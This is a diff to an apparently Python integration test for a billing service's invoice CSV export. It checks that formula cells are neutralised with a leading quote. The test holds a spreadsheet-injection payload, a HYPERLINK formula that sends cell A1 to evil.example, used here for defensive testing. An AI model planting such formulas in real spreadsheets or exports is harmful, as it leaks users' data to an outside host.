@@ -33,7 +33,7 @@ import scheduling.entrypoints.service
 from shared.fields import unbounded_numbers
 from shared.http import JsonHttp
 from tests import tokens
-from tests.conftest import billing_run, eventually, http_json
+from tests.conftest import billing_run, eventually, http_json, http_text
 from tests.integration.billing_upstream import Upstream
 
 ENTRYPOINT_MODULES = (membership.entrypoints.service, catalogue.entrypoints.service,
@@ -234,10 +234,7 @@ class TestCsvExports:
         stack = stack_factory(sqlite_databases).start("billing")
         formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
         invoiced(stack, amqp_uri, "110032", formula)
-        export = urllib.request.Request(f"{stack.url('billing')}/exports/invoices.csv",
-                                        headers=tokens.bearer(tokens.trust_staff()))
-        with urllib.request.urlopen(export, timeout=20) as response:
-            rows = list(csv.DictReader(io.StringIO(response.read().decode())))
+        rows = list(csv.DictReader(io.StringIO(http_text(f"{stack.url('billing')}/exports/invoices.csv", timeout=20))))
         assert [row["payer_name"] for row in rows] == ["'" + formula]
         assert rows[0]["net_pence"] == "100000"  # numbers stay numbers
         assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())
